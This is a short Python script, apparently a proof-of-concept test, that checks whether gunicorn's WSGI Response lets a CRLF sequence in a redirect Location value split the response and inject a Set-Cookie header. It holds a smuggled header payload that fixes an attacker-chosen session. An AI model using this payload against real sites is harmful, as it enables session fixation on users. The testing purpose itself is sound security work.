import socket

from gunicorn.http.wsgi import Response


class Request:
    version = (1, 1)
    method = "GET"

    def should_close(self):
        return False


server, client = socket.socketpair()
response = Response(Request(), server, None)
# An application that puts a user-supplied URL into a redirect.
next_url = "/home\r\nSet-Cookie: session=attacker-chosen"
write = response.start_response("302 Found", [("Location", next_url)])
write(b"")
server.close()
raw = client.recv(65536)
print(raw.decode("latin-1"))
if b"\r\nSet-Cookie: session=attacker-chosen\r\n" in raw:
    print("VULNERABLE: a header value split the response and injected a Set-Cookie header")
